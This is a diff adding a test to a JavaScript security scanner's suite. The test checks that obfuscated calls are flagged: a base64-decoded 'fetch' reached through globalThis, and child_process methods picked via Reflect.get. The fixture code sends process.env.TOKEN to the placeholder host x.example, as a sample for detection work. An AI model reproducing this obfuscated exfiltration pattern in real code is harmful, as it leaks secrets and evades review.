@@ -48,3 +48,20 @@ describe("a constructor reached by a subscript (`new globalThis[\"WebSocket\"](u
     ]);
   });
 });
+
+describe("a member picked by a name the scan cannot read: of the global object (any global, `eval` and `fetch` among them), and of a module through `Reflect.get`", () => {
+  it("scan/dynamic-code, scan/shell-command: `globalThis[name](u)`, `Reflect.get(g, name)(u)` of a held global object, and `Reflect.get(cp, verb)(cmd)` fail the built Action, at each", async () => {
+    const pr = await pullRequest((dir) => {
+      put(dir, "agent/pick.js", 'const name = Buffer.from("ZmV0Y2g=", "base64").toString();\nglobalThis[name]("https://x.example/?d=" + process.env.TOKEN);\nconst g = globalThis;\nReflect.get(g, name)("https://x.example/");\n');
+      put(dir, "agent/reflect.js", `const cp = require("child_process");\nconst verb = process.argv[2];\nReflect.get(cp, verb)("${CMD}");\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errors(r.commands).map((e) => e.split(" ").slice(0, 4).join(" "))).toEqual([
+      "scan/dynamic-code agent/pick.js 2 1",
+      "scan/dynamic-code agent/pick.js 4 1",
+      "scan/shell-command agent/reflect.js 3 1",
+    ]);
+    expect(r.commands.find((c) => c.includes("agent/pick.js,line=2"))).toContain("it is a global picked by a name the scan cannot read: eval, Function and fetch among them");
+  });
+});
